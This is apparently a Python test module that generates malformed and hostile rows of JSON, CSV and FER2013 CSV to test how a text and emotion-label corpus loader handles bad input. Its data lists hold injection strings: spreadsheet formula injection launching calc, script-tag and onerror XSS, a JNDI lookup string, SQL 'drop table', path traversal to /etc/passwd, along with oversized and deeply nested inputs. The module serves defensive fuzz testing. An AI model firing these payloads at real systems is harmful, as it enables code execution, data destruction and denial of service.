"""Hostile lines of JSON, CSV and FER2013's CSV: one line is one row of the corpus, whatever is in it."""

import json
from collections.abc import Iterator
from itertools import count

import numpy as np
from damage import damaged

WORD = "\u0986\u09ae\u09bf"  # a good text, so that what else is in the row decides
BIDI = "\u202e\u2066\u2067\u2069\u200f\u061c"

TEXTS = [
    f"{WORD}\x00{WORD}",
    f"\x00{WORD}",
    f"{BIDI}{WORD}{BIDI}",
    f"\ufeff{WORD}\ufeff",
    f"\x1b[2J\x1b]0;title\x07{WORD}",
    f"\x08\x0b\x0c\x7f\x85\u2028\u2029{WORD}",
    f"=cmd|' /C calc'!A0 {WORD}",
    f"+{WORD}",
    f"-2+3+cmd|' /C calc'!D2 {WORD}",
    f'@SUM(1+9)*cmd|" /C calc"!A0 {WORD}',
    f"=HYPERLINK(0, {WORD})",
    f"<script>alert(1)</script> {WORD}",
    f"<img src=x onerror=alert(1)> {WORD}",
    f'" onmouseover="alert(1)" {WORD}',
    f"{{{{ 7 * 7 }}}} {{% include 'x' %}} {WORD}",
    f"${{jndi:ldap://example.invalid/a}} {WORD}",
    f"'; drop table samples; -- {WORD}",
    f"../../../etc/passwd {WORD}",
    f"%s%s%n {WORD}",
    "\u0995" + "\u09cd\u0995" * 5_000,
    "\u0995" + "\u0301\u0327" * 5_000,
    "\u09cd" * 19_999,
    "\u200d" * 19_999,
    "\u09c7\u200c\u09be" * 5_000,
    WORD * 6_666,
    WORD * 6_667,
    "\ufdfa" * 10_000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 2_000,
    "\U000e0041" * 9_000 + WORD,
    "a" * 19_999,
    "a." * 9_999,
    "a@" * 9_999,
    "a-" * 9_999 + ".com",
    "www.!!!!" * 2_500,
    "http://" * 2_800,
    "http://" + "(" * 19_000,
    "http://" + "()" * 9_500,
    "<" * 6_600 + "a>" * 6_600,
    "<a" * 9_999,
    "<3" * 9_999,
    "|" * 19_999,
    "\u09bc" * 19_999,
    "\u09c7\u09be" * 9_999,
    "\u09ac\u09cd" * 9_999,
    "1." * 9_999,
    "?" * 19_999,
    "",
    " ",
    "\u00a0\u2003\u3000",
    "\ufffd",
    "\u0001",
]

# Values that a text, a key, a label, an age or votes may not have, spelt as JSON.
VALUES = [
    "null",
    "true",
    "0",
    "-1",
    "1e999",
    "-1e999",
    "NaN",
    "Infinity",
    "-Infinity",
    "9" * 4_000,
    "9" * 5_000,
    "1." + "0" * 5_000,
    "[]",
    "{}",
    "[" * 900 + "]" * 900,
    "[" * 100_000 + "]" * 100_000,
    "[" * 100_000,
    '{"a":' * 100_000 + "1" + "}" * 100_000,
    '"\\ud800"',
    '"\\udc00\\ud800"',
    '"\\u0000"',
    '"' + "x" * 5_000 + '"',
    '"' + "x" * 2_000_000 + '"',
    '["happy", "happy", "sad"]',
    '["happy", ["sad"], {"a": 1}, null, 7]',
    "[" + '"rage",' * 100_000 + '"sad"]',
    '"happy;sad;;happy"',
    '"../../escaped"',
    '"/etc/passwd"',
    '"a\\u0000b"',
    '"\\u202ecod.exe"',
    '"\\u001b[2J"',
    '"=1+1"',
    '"\\"',
    '"<script>"',
    "'happy'",
    "undefined",
    "0x10",
    "01",
    '"' + "9" * 900 + '"',
    '"\u09e8\u09ea"',
]
NAMES = ("text", "key", "label", "who", "age", "votes")
GOOD = {"text": json.dumps(WORD), "label": '"happy"', "who": '"p1"', "age": '"24"', "votes": '["happy"]'}


def spelt(row: dict[str, str]) -> bytes:
    return ("{" + ", ".join(f'"{name}": {value}' for name, value in row.items()) + "}").encode("utf-8", "surrogatepass")


def json_lines(rng: np.random.Generator) -> Iterator[bytes]:
    """Yield hostile lines of JSON for ever."""
    numbers = count()

    def row(**changes: str) -> bytes:
        return spelt({"key": f'"k{next(numbers)}"', **GOOD, **changes})

    yield row()
    yield from (row(text=json.dumps(text)) for text in TEXTS)
    yield from (row(text=json.dumps(text, ensure_ascii=False)) for text in TEXTS if "\n" not in text)
    yield from (row(**{name: value}) for name in NAMES for value in VALUES)
    yield from [row()[:-1] + b', "label": "sad"}', row()[:-1] + b', "text": "' + b"x" * 10_000_000 + b'"}']
    yield from [b"[1]", b"1", b'"text"', b"{}", b"{", b"\x00", b"\xff\xfe{\x00}\x00", b"\xef\xbb\xbf{}", b"}" * 1000]
    yield spelt({f"column {n}": "1" for n in range(50_000)})
    yield spelt({"key": '"same"', **GOOD})
    yield spelt({"key": '"same"', **GOOD})
    yield row().replace(WORD.encode(), b"\xe0\xa6")
    yield row().replace(WORD.encode(), b"\xed\xa0\x80")
    yield row().replace(WORD.encode(), b"\xc0\xaf\xc0\xae")
    yield from damaged([row() for _ in range(20)], rng)


def csv_lines(rng: np.random.Generator) -> Iterator[bytes]:
    """Yield hostile rows of a CSV of text and label for ever; none has a quote that swallows its neighbours."""
    for text in TEXTS:
        quoted = text.replace('"', '""')
        yield f'"{quoted}",happy'.encode("utf-8", "surrogatepass")
        yield f"{text.replace(chr(34), '')},happy".encode("utf-8", "surrogatepass")
    for label in ("", "0", "rage", "HAPPY ", "=1+1", "\x00", "\u202ehappy", "x" * 5_000, "happy,sad", "../x", "NaN"):
        yield f"{WORD},{label}".encode()
    yield from [b",", b",,", b'""', b'"",""', b'"' + WORD.encode() + b'"happy,happy', b"," * 500_000, b"\x00,\x00"]
    yield from [b"x" * 200_000 + b",happy", b"x" * 10_000_000, b'"' + b"x" * 10_000_000 + b'",happy', b"a," * 1_000_000]
    yield from [b"\xff\xfe,happy", b"\xe0\xa6,happy", b"\xed\xa0\x80,happy", b"caf\xe9,happy"]
    good = f"{WORD} {WORD},happy".encode()
    yield from (line.replace(b'"', b"'") for line in damaged([good, b"happy," + good, good + b"," * 5], rng))


def fer2013_lines(rng: np.random.Generator) -> Iterator[bytes]:
    """Yield hostile rows of FER2013's CSV for ever."""
    pixels = " ".join(str(n % 256) for n in range(2304))
    good = f"3,{pixels},Training".encode()
    levels = [
        "",
        "1",
        pixels[:-4],
        pixels + " 1",
        pixels.replace(" 7 ", " -7 "),
        pixels.replace(" 7 ", " 256 "),
        pixels.replace(" 7 ", " 99999999999999999999 "),
        pixels.replace(" 7 ", " 7.5 "),
        pixels.replace(" 7 ", " nan "),
        pixels.replace(" 7 ", " 0x7 "),
        pixels.replace(" 7 ", " \u09ed "),
        pixels.replace(" 7 ", " 7\x00 "),
        pixels.replace(" ", ";"),
        pixels.replace(" ", "\t"),
        "0 " * 2303 + "0",
        "255 " * 2303 + "255",
        "1 " * 400_000,
        "9" * 900_000,
        "1 " * 1_000_000,
        '"' + pixels + '"',
        '"' + pixels,
    ]
    yield from (f"3,{text},Training".encode() for text in levels)
    for label in ("", "7", "-1", "3.0", "happy", "\u09e9", "x" * 100_000, "=3", "\x003"):
        yield f"{label},{pixels},Training".encode()
    for usage in (
        "",
        "training",
        "PublicTest",
        "PrivateTest",
        "../Training",
        "Training,Training",
        "x" * 100_000,
        "\x00",
    ):
        yield f"3,{pixels},{usage}".encode()
    yield from [
        b",",
        b",,",
        b",,,",
        b'"""',
        b"\x00",
        b"\xff" * 100,
        b"," * 1_000_000,
        b"emotion,pixels,Usage",
        b"PK\x03\x04",
    ]
    yield from damaged([good], rng)
